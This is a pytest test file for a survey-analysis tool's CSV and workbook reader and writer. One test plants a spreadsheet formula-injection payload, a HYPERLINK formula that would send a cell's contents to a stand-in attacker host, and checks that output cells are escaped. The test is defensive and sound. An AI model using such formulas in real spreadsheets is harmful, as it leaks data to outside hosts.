"""The text-CSV reading and writing shared by `rapport sentiment`, `eval-sentiment`, `themes`."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from desktop_app.commands.textcsv import output_columns, read_text_csv, write_csv_atomically
from surveys.errors import RapportError


def test_reads_bom_quoted_commas_and_short_rows(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes('\ufefftext,team\n"Slow, again",IT\nshort row\n'.encode())
    header, rows, lines = read_text_csv(path)
    assert header == ["text", "team"]
    assert rows == [{"text": "Slow, again", "team": "IT"}, {"text": "short row", "team": ""}]
    assert lines == [2, 3]


@pytest.mark.parametrize(
    ("content", "required", "message"),
    [
        (b"comment\nx\n", ("text",), "line 1: there is no 'text' column (found: comment)"),
        (b"", ("text",), "(found: no header at all)"),
        (b"text\nx\n", ("text", "label"), "there is no 'label' column (found: text). Add a"),
        (b'text\n"a",b\n', ("text",), "line 2: this row has more cells than the header"),
        (b"text\ncaf\xc3\xa9\n\x93bad\x94\n", ("text",), "line 3: byte 0x93 at character 1"),
        (b"text\n\x93ok\x94\n\x81bad\n", ("text",), "neither UTF-8 nor Windows-1252"),
    ],
)
def test_unreadable_files_are_explained(tmp_path: Path, content, required, message) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(RapportError) as caught:
        read_text_csv(path, required)
    assert str(path) in str(caught.value) and message in str(caught.value)


def test_excels_windows_csv_is_read_as_written(tmp_path: Path) -> None:
    # Excel's "CSV (Comma delimited)" on Windows: Windows-1252, no byte-order mark
    text = "They don\u2019t reply \u2013 \u201cnot our problem\u201d; caf\u00e9 \u00a3 \u20ac"
    path = tmp_path / "in.csv"
    path.write_bytes(f"text,team\r\n{text},IT\r\n".encode("cp1252"))
    header, rows, lines = read_text_csv(path)
    assert rows == [{"text": text, "team": "IT"}]


def test_missing_file_and_folder(tmp_path: Path) -> None:
    with pytest.raises(RapportError, match="does not exist"):
        read_text_csv(tmp_path / "absent.csv")
    with pytest.raises(RapportError, match="is a folder"):
        read_text_csv(tmp_path)


def test_output_columns_rename_clashes_without_losing_any() -> None:
    columns, renamed = output_columns(
        ["id", "label", "label_given", "text"], ["sentiment", "label"]
    )
    assert renamed == {"label": "label_given2"}
    assert columns == ["id", "label_given2", "label_given", "text", "sentiment", "label"]


def test_write_is_atomic_and_leaves_no_temporary_file(tmp_path: Path) -> None:
    out = tmp_path / "sub" / "out.csv"
    out.parent.mkdir()
    write_csv_atomically(out, ["a", "b"], [{"a": 1, "b": "x, y"}])
    with out.open(encoding="utf-8", newline="") as handle:
        assert list(csv.DictReader(handle)) == [{"a": "1", "b": "x, y"}]
    with pytest.raises(ValueError):
        write_csv_atomically(out, ["a"], [{"a": 2, "unknown": 3}])
    assert [p.name for p in out.parent.iterdir()] == ["out.csv"]
    assert out.read_text(encoding="utf-8").splitlines()[1] == '1,"x, y"'


def test_an_output_that_is_a_folder_is_refused_with_advice(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    with pytest.raises(RapportError, match=r"results is a folder; give the name of the CSV"):
        write_csv_atomically(folder, ["a"], [{"a": 1}])
    assert list(tmp_path.glob("**/*.csv")) == []


@pytest.mark.parametrize("command", ["sentiment", "themes"])
def test_cli_refuses_a_folder_as_out_before_the_work_and_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    from desktop_app.cli import main

    source = tmp_path / "in.csv"
    source.write_text("text\nThe handover was slow.\n", encoding="utf-8")
    assert main([command, str(source), "--out", str(tmp_path)]) == 2
    captured = capsys.readouterr()
    assert f"rapport {command}: {tmp_path} is a folder" in captured.err
    assert "Traceback" not in captured.err and "%]" not in captured.err + captured.out


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="needs Linux's /proc")
def test_cli_explains_a_file_that_cannot_be_read_without_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from desktop_app.cli import main

    workspace = tmp_path / "ws"
    assert main(["init", str(workspace), "--departments", "Sales,IT"]) == 0
    capsys.readouterr()
    # Reading this file fails with an input/output error: no command expects that.
    assert main(["import-csv", str(workspace), "/proc/self/mem"]) == 2
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    assert captured.err.startswith("rapport import-csv: could not use ")
    assert "Input/output error" in captured.err and "try again" in captured.err


def test_reads_semicolons_tabs_and_workbooks_with_their_lines(tmp_path: Path) -> None:
    """Excel in Europe writes semicolons, Qualtrics UTF-16 TSV; a workbook's first sheet."""
    from openpyxl import Workbook

    semicolons = tmp_path / "eu.csv"
    semicolons.write_bytes(b'id;text\n1;"Slow; again\nand again"\n2;ok\n')
    assert read_text_csv(semicolons) == (
        ["id", "text"],
        [{"id": "1", "text": "Slow; again\nand again"}, {"id": "2", "text": "ok"}],
        [2, 4],  # the second record starts on line 4: the first holds a line break
    )
    tabs = tmp_path / "q.tsv"
    tabs.write_bytes("text\tteam\nfine\tIT\n".encode("utf-16"))
    assert read_text_csv(tabs).rows == [{"text": "fine", "team": "IT"}]
    book = Workbook()
    book.active.append(["ticket", "description"])
    book.active.append([101, "VPN drops every hour"])
    book.save(tmp_path / "tickets.xlsx")
    table = read_text_csv(tmp_path / "tickets.xlsx", ("description",))
    assert table.rows == [{"ticket": "101", "description": "VPN drops every hour"}]


def test_a_missing_column_names_the_option_and_the_likeliest_column(tmp_path: Path) -> None:
    path = tmp_path / "tickets.csv"
    path.write_text("id,team,description\n1,IT,The VPN drops every hour\n", encoding="utf-8")
    with pytest.raises(RapportError) as caught:
        read_text_csv(path, ("text",), {"text": "--column"})
    assert (
        "Say which column holds the comments with --column NAME, for example --column "
        "description." in str(caught.value)
    )
    with pytest.raises(RapportError, match="with --label-column NAME"):
        read_text_csv(path, ("description", "label"), {"label": "--label-column"})


def test_a_sep_line_and_bare_return_line_ends_are_read_as_excel_reads_them(tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(b"sep=;\rtext;team\rSlow, again;IT\r")
    header, rows, lines = read_text_csv(path)
    assert (header, rows, lines) == (["text", "team"], [{"text": "Slow, again", "team": "IT"}], [3])


@pytest.mark.parametrize("command", ["sentiment", "themes"])
def test_text_cells_of_a_workbook_do_not_become_formulas_in_the_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    """Sixth hostile round: a workbook's text cell `=HYPERLINK(...)` is text in Excel, but
    `rapport sentiment`/`themes` wrote it back bare into their CSV, where Excel (or, after
    a `;`, European Excel) reads it as a formula. Numbers stay numbers."""
    import openpyxl

    from desktop_app.cli import main

    planted = '=HYPERLINK("http://evil.example/?"&A3,"Details")'
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["text", "team", "score"])
    for text, team in [
        (planted, "@SUM(1)"),
        ("Slow again;=1+2", "-Ops"),
        ("The handover was slow and nobody answered.", "IT"),
        ("Great help from the team, thanks.", "Sales"),
    ]:
        sheet.append([text, team, -3])
        sheet.cell(sheet.max_row, 1).data_type = "s"  # text, as a survey tool writes it
    book.save(tmp_path / "in.xlsx")
    reread = openpyxl.load_workbook(tmp_path / "in.xlsx").active
    assert reread["A2"].data_type == "s" and reread["A2"].value == planted  # text, in Excel
    out = tmp_path / "out.csv"
    assert main([command, str(tmp_path / "in.xlsx"), "--out", str(out)]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values() if not _number(value)]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert rows[0]["text"] == "'" + planted and rows[0]["team"] == "'@SUM(1)"
    assert rows[1]["text"] == "Slow again;'=1+2" and rows[1]["team"] == "'-Ops"
    assert rows[0]["score"] == "-3"
    if command == "sentiment":
        assert float(rows[2]["sentiment"]) < 0  # a number, not "'-0.42"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
